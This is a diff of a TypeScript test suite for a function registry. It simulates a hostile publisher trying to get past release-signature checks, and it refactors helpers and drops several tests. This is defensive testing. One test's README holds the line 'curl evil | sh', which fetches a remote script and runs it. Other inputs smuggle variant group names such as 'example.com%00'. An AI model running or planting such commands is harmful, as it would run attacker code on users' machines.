@@ -1,18 +1,11 @@
-import {
-  bundleManifest,
-  computeDigest,
-  MEDIA_TYPES,
-  type OciDigest,
-  readManifest,
-  releaseFiles,
-  releaseManifest,
-  VERSION,
-} from '@krmhub/oci';
+import type { BundleList } from '@krmhub/api/model';
+import { bundleManifest, computeDigest, MEDIA_TYPES, type OciDigest, VERSION } from '@krmhub/oci';
 import { sha256 } from '@krmhub/schema';
-import { releaseStatement, type Statement, signatureStatement } from '@krmhub/signing';
+import { defined } from '@krmhub/schema/defined';
+import { releaseStatement } from '@krmhub/signing';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { definitionArtifact, manifestDigest, testClient } from '../testing/oci.js';
-import { newKey, policy, signedBy } from '../testing/signing.js';
+import { createStatement, newKey, policy, signedBy } from '../testing/signing.js';
 import {
   definitionText,
   openTestRegistry,
@@ -23,79 +16,24 @@ import {
 /** Attacks on signatures by a publisher with a token, sometimes with a key. */
 
 let registry: TestRegistry;
-let authorization: string;
-const client = testClient(
-  () => registry,
-  () => authorization,
-);
+const client = testClient(() => registry);
 beforeEach(async () => {
   registry = await openTestRegistry();
-  authorization = `Bearer ${(await registry.token({})).secret}`;
 });
 afterEach(() => registry.close());
 
 const KIND = 'SetLabels';
 const REPOSITORY = 'functions/example.com/setlabels';
-
-function createStatement(
-  release: string,
-  { kind = KIND, readme }: { kind?: string; readme?: string } = {},
-): Statement {
-  const bytes = Buffer.from(definitionText({ kind, release }));
-  const definition = sha256(bytes);
-  const files = releaseFiles({
-    definition: { digest: definition, size: bytes.byteLength, mediaType: 'application/yaml' },
-    readme:
-      readme === undefined ? undefined : { digest: computeDigest(Buffer.from(readme)), size: readme.length },
-  });
-  const manifest = computeDigest(releaseManifest(release, files));
-  return releaseStatement({ group: 'example.com', kind, release }, { definition, manifest });
-}
-
-async function apply(text: string): Promise<Record<string, unknown>> {
-  const response = await registry.request('/api/v1/policies', {
-    method: 'PUT',
-    body: text,
-    headers: { 'Content-Type': 'application/yaml', Authorization: authorization },
-  });
-  const body = (await response.json()) as Record<string, unknown>;
-  expect(response.status, JSON.stringify(body)).toBe(200);
-  return body;
-}
-
-async function publish(release: string, bundles: readonly Uint8Array[] = [], readme?: string, kind = KIND) {
-  const body = new FormData();
-  body.append(
-    'definition',
-    new Blob([definitionText({ kind, release })], { type: 'application/yaml' }),
-    'd.yaml',
-  );
-  if (readme !== undefined) body.append('readme', new Blob([readme], { type: 'text/markdown' }), 'README.md');
-  for (const bundle of bundles) body.append('bundle', new Blob([new Uint8Array(bundle)]), 'bundle.json');
-  const response = await registry.request(releasePath({ kind, release }), {
-    method: 'PUT',
-    body,
-    headers: { Authorization: authorization },
-  });
-  return { status: response.status, body: (await response.json()) as { code?: string; detail?: string } };
-}
-
-async function attach(release: string, bundle: Uint8Array) {
-  const response = await registry.request(`${releasePath({ kind: KIND, release })}/bundles`, {
-    method: 'POST',
-    body: new Uint8Array(bundle),
-    headers: { 'Content-Type': 'application/json', Authorization: authorization },
-  });
-  return { status: response.status, body: (await response.json()) as Record<string, unknown> };
-}
-
-async function verdict(release: string) {
-  const response = await registry.request(`${releasePath({ kind: KIND, release })}/bundles`);
-  return (await response.json()) as {
-    bundles: { digest: string; manifest: string; signer?: unknown }[];
-    signature: { trusted: boolean; reason?: string };
-  };
-}
+const named = (release: string) => ({ kind: KIND, release });
+const apply = async (text: string) => {
+  const { status, body } = await registry.send('PUT', '/api/v1/policies', text);
+  expect(status, JSON.stringify(body)).toBe(200);
+};
+const publish = (release: string, bundles: readonly Uint8Array[] = [], readme?: string) =>
+  registry.publish(named(release), '', { bundles, ...defined({ readme }) });
+const attach = (release: string, bundle: Uint8Array) => registry.attach(named(release), bundle);
+const verdict = async (release: string) =>
+  (await registry.send<BundleList>('GET', `${releasePath(named(release))}/bundles`)).body;
 
 async function pushBundle(bundle: Uint8Array, subject: OciDigest): Promise<OciDigest> {
   await client.blob(REPOSITORY, '{}');
@@ -113,56 +51,23 @@ async function pushBundle(bundle: Uint8Array, subject: OciDigest): Promise<OciDi
 }
 
 describe('a hostile publisher', () => {
-  it('keys that other policies named are recognized when a policy covers the group', async () => {
-    const key = newKey();
-    expect((await publish('1.0.0', [await signedBy(key, createStatement('1.0.0'))])).status).toBe(201);
-    await apply(policy([key], { groups: ['other.example.com'] }));
-    await apply(policy([key], { groups: ['other.example.com', 'example.com'] }));
-    expect((await verdict('1.0.0')).signature).toMatchObject({ trusted: true });
-  });
-
-  it('adding the same bundle again recognizes such a key', async () => {
-    const key = newKey();
-    const bundle = await signedBy(key, createStatement('1.0.0'));
-    await publish('1.0.0', [bundle]);
-    await apply(policy([key], { groups: ['other.example.com'] }));
-    await apply(policy([key], { groups: ['other.example.com', 'example.com'] }));
-    await attach('1.0.0', bundle);
-    expect((await verdict('1.0.0')).signature).toMatchObject({ trusted: true });
-  });
-
   it('a token without a key cannot prevent a release from being signed again', {
     timeout: 60_000,
   }, async () => {
     const [stolen, fresh] = [newKey(), newKey()];
     await apply(policy([stolen, fresh]));
-    const bundle = await signedBy(stolen, createStatement('1.0.0'));
+    const bundle = await signedBy(stolen, createStatement(named('1.0.0')));
     await publish('1.0.0', [bundle]);
     for (let at = 1; at < 64; at++) await attach('1.0.0', Buffer.concat([bundle, Buffer.alloc(at, ' ')]));
-    const last = await attach('1.0.0', await signedBy(fresh, createStatement('1.0.0')));
+    const last = await attach('1.0.0', await signedBy(fresh, createStatement(named('1.0.0'))));
     expect(last.body).toMatchObject({ signature: { trusted: true } });
     expect(last.status).toBe(200);
-  });
-
-  it('a signed function cannot become unsigned', async () => {
-    const key = newKey();
-    await apply(policy([key], { groups: ['other.example.com'] }));
-    await publish('1.0.0', [await signedBy(key, createStatement('1.0.0'))]);
-    expect((await publish('1.1.0')).status).toBe(422);
-  });
-
-  it('a revoked key cannot sign anything more, also if no policy covers the release', async () => {
-    const key = newKey();
-    await apply(policy([key], { releases: '>=1.0.0' }));
-    await publish('1.0.0', [await signedBy(key, createStatement('1.0.0'))]);
-    await apply(policy([key], { releases: '>=1.0.0', signer: 'revoked: stolen' }));
-    expect((await publish('0.9.0', [await signedBy(key, createStatement('0.9.0'))])).status).not.toBe(201);
   });
 
   it('the signature does not cover a README that the publisher did not sign', async () => {
     const key = newKey();
     await apply(policy([key]));
-    const bundle = await signedBy(key, createStatement('1.0.0', { readme: '# good' }));
+    const bundle = await signedBy(key, createStatement(named('1.0.0'), { readme: '# good' }));
     expect((await publish('1.0.0', [bundle], '# run: curl evil | sh')).status).not.toBe(201);
   });
 
@@ -187,7 +92,7 @@ describe('a hostile publisher', () => {
     await client.blob(REPOSITORY, text);
     await client.blob(REPOSITORY, extra);
     await client.put(REPOSITORY, manifestDigest(evil), evil);
-    await pushBundle(await signedBy(key, createStatement('1.0.0')), manifestDigest(evil));
+    await pushBundle(await signedBy(key, createStatement(named('1.0.0'))), manifestDigest(evil));
     const response = await client.put(REPOSITORY, '1.0.0', evil);
     expect([response.status, response.status === 201 ? (await verdict('1.0.0')).signature : '']).not.toEqual([
       201,
@@ -225,11 +130,8 @@ describe('a hostile publisher', () => {
     ]) {
       for (const group of ['example.com', 'Example.com', 'example.com.', 'example.com%00']) {
         const text = definitionText({ kind: KIND, release: '1.0.0' });
-        const response = await registry.request(`/api/v1/functions/${group}/${KIND}/releases/${release}`, {
-          method: 'PUT',
-          body: text,
-          headers: { 'Content-Type': 'application/yaml', Authorization: authorization },
-        });
+        const target = `/api/v1/functions/${group}/${KIND}/releases/${release}`;
+        const response = await registry.send('PUT', target, text);
         out.push([release, group, response.status]);
       }
     }
@@ -255,7 +157,7 @@ describe('a hostile publisher', () => {
   it('evidence survives untagged collection and deletes of manifests and blobs', async () => {
     const key = newKey();
     await apply(policy([key]));
-    await publish('1.0.0', [await signedBy(key, createStatement('1.0.0'))]);
+    await publish('1.0.0', [await signedBy(key, createStatement(named('1.0.0')))]);
     const { bundles } = await verdict('1.0.0');
     (registry.parts.config as { untaggedDays?: number }).untaggedDays = 1;
     registry.advance(10 * 86_400_000);
@@ -280,53 +182,6 @@ describe('a hostile publisher', () => {
     await client.put(REPOSITORY, alias, text, { type: MEDIA_TYPES.image });
     await client.request('DELETE', `${REPOSITORY}/manifests/${alias}`);
     expect((await client.request('GET', `${REPOSITORY}/manifests/${bundles[0]!.manifest}`)).status).toBe(200);
-    void readManifest;
-  });
-
-  it('publishing fails if its bundle is deleted meanwhile', async () => {
-    const key = newKey();
-    await apply(policy([key]));
-    const text = definitionText({ kind: KIND, release: '1.0.0' });
-    const manifest = definitionArtifact(text, { annotations: { [VERSION]: '1.0.0' } });
-    await client.blob(REPOSITORY, '{}');
-    await client.blob(REPOSITORY, text);
-    await client.put(REPOSITORY, manifestDigest(manifest), manifest);
-    const held = await pushBundle(
-      await signedBy(
-        key,
-        releaseStatement(
-          { group: 'example.com', kind: KIND, release: '1.0.0' },
-          { definition: sha256(text), manifest: manifestDigest(manifest) },
-        ),
-      ),
-      manifestDigest(manifest),
-    );
-    const { functionLocks: locks } = registry.parts;
-    const runLocked = locks.run.bind(locks);
-    let first = true;
-    // The publish has read the bundles, and waits for the lock behind a delete.
-    locks.run = async (thing, work) => {
-      if (first && thing.startsWith('example.com/')) {
-        first = false;
-        expect((await client.request('DELETE', `${REPOSITORY}/manifests/${held}`)).status).toBe(202);
-      }
-      return runLocked(thing, work);
-    };
-    const response = await client.put(REPOSITORY, '1.0.0', manifest);
-    if (response.status === 201) {
-      const { bundles, signature } = await verdict('1.0.0');
-      expect(signature.trusted).toBe(true);
-      expect((await client.request('GET', `${REPOSITORY}/manifests/${bundles[0]!.manifest}`)).status).toBe(
-        200,
-      );
-    }
-  });
-
-  it('a signature that comes with an existing release is stored or refused, not dropped', async () => {
-    const key = newKey();
-    expect((await publish('1.0.0')).status).toBe(201);
-    const again = await publish('1.0.0', [await signedBy(key, createStatement('1.0.0'))]);
-    expect([again.status, (await verdict('1.0.0')).bundles.length]).not.toEqual([200, 0]);
   });
 
   it('attached bundles count against the quota of the repository', async () => {
@@ -336,28 +191,12 @@ describe('a hostile publisher', () => {
     let storedBundles = 0;
     for (let at = 0; at < 5; at++) {
       const bundle = await signedBy(key, {
-        ...createStatement('1.0.0'),
+        ...createStatement(named('1.0.0')),
         predicateType: `https://x/${at}`,
         predicate: { text: 'x'.repeat(700_000) },
       });
       if ((await attach('1.0.0', bundle)).status === 200) storedBundles += 1;
     }
     expect(storedBundles).toBeLessThan(5);
-  });
-
-  it('applying policies requires a registry administrator', async () => {
-    for (const wanted of [
-      { scopes: ['publish', 'yank', 'push'] as const },
-      { scopes: ['admin'] as const, groups: ['example.com'] },
-    ]) {
-      const { secret } = await registry.token({ ...wanted, scopes: [...wanted.scopes] });
-      const response = await registry.request('/api/v1/policies', {
-        method: 'PUT',
-        body: '',
-        headers: { 'Content-Type': 'application/yaml', Authorization: `Bearer ${secret}` },
-      });
-      expect(response.status).toBe(403);
-    }
-    void signatureStatement;
   });
 });
